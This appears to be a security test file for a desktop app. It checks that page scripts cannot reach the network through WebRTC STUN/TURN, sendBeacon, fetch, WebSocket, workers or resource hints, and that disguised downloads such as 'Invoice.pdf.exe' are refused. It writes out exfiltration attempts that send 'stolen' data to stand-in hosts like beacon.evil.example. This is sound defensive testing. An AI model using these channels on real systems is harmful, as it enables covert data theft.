import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import path from 'node:path'
import { expect, test } from '../../e2e/fixtures.ts'

test.use({ ownConsole: true })

/** Listens on loopback as a STUN and a TURN server would, by UDP and by TCP, and keeps what arrives. */
async function openPeerServers() {
  const arrived: string[] = []
  const udp = createSocket('udp4').on('message', () => arrived.push('a UDP packet'))
  const tcp = createServer((socket) => {
    arrived.push('a TCP connection')
    socket.on('error', () => undefined)
  })
  udp.bind(0, '127.0.0.1')
  tcp.listen(0, '127.0.0.1')
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
  const close = (): void => {
    udp.close()
    tcp.close()
  }
  return { arrived, udpPort: udp.address().port, tcpPort: (tcp.address() as AddressInfo).port, close }
}

test('a script in the page reaches no STUN or TURN server', async ({ openConsole }) => {
  const servers = await openPeerServers()
  const { page } = await openConsole()
  const gathered = await page.evaluate(
    async ([udp, tcp]) => {
      const login = { username: 'stolen-data', credential: 'x' }
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${udp}` },
          { urls: `turn:127.0.0.1:${udp}`, ...login },
          { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, ...login },
          { urls: `turns:127.0.0.1:${tcp}?transport=tcp`, ...login },
        ],
      })
      connection.createDataChannel('stolen')
      const complete = new Promise<void>((resolve) => {
        connection.addEventListener('icegatheringstatechange', () => connection.iceGatheringState === 'complete' && resolve())
      })
      await connection.setLocalDescription(await connection.createOffer())
      await complete
      return connection.localDescription?.sdp.split('\r\n').filter((line) => line.startsWith('a=candidate'))
    },
    [servers.udpPort, servers.tcpPort] as const,
  )
  servers.close()
  expect(servers.arrived).toEqual([])
  expect(gathered?.filter((candidate) => / udp | srflx | relay /.test(candidate))).toEqual([])
})

test('nothing that the page asks for becomes a request of the network, and QUIC is off', async ({ openConsole, folders }) => {
  const netLog = path.join(path.dirname(folders.userData), 'net-log.json')
  const { page, close } = await openConsole({ args: [`--log-net-log=${netLog}`] })
  await page.evaluate(async () => {
    const hints = ['preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'stylesheet', 'manifest', 'prerender']
    for (const rel of hints) document.head.append(Object.assign(document.createElement('link'), { rel, href: `https://${rel}.evil.example/`, as: 'image' }))
    for (const tag of ['img', 'video', 'audio', 'iframe'] as const) {
      document.body.append(Object.assign(document.createElement(tag), { src: `https://${tag}.evil.example/` }))
    }
    const style = document.createElement('div')
    style.style.backgroundImage = 'url(https://background.evil.example/)'
    document.body.append(style)
    navigator.sendBeacon('https://beacon.evil.example/', 'stolen')
    const attempts = [
      () => new WebSocket('wss://socket.evil.example/'),
      () => new WebTransport('https://transport.evil.example/'),
      () => new EventSource('https://events.evil.example/'),
      () => new Worker('https://worker.evil.example/'),
      () => document.body.append(Object.assign(document.createElement('embed'), { src: 'https://embed.evil.example/' })),
      () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://script.evil.example/' })),
      () => fetch('https://fetch.evil.example/', { mode: 'no-cors', keepalive: true }),
      () => navigator.serviceWorker.register('https://service.evil.example/'),
    ]
    await Promise.allSettled(attempts.map(async (attempt) => attempt()))
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
  })
  await close()
  const log = await readFile(netLog, 'utf8')
  expect(log.match(/"single_proxy":\["[^"]+"\]/)?.[0]).toBe('"single_proxy":["[the-page-has-no-network.invalid:1]"]')
  expect(log.match(/[a-z]+\.evil\.example/g) ?? []).toEqual([])
  expect(new Set(log.match(/"quic_enabled":\w+/g))).toEqual(new Set(['"quic_enabled":false']))
})

test('a download that the page begins is refused, whatever it calls itself', async ({ openConsole, folders }) => {
  const console = await openConsole()
  await console.page.evaluate(() => {
    const addresses = [URL.createObjectURL(new Blob(['MZ'], { type: 'application/octet-stream' })), 'data:application/octet-stream,MZ', '/index.html']
    for (const href of addresses) Object.assign(document.createElement('a'), { href, download: 'Invoice.pdf.exe' }).click()
  })
  await expect
    .poll(() =>
      console
        .log()
        .match(/Refused a download of the page from \w+:/g)
        ?.sort(),
    )
    .toEqual(['Refused a download of the page from app:', 'Refused a download of the page from blob:', 'Refused a download of the page from data:'])
  await expect(readFile(path.join(folders.downloads, 'Invoice.pdf.exe'))).rejects.toThrow('ENOENT')
})
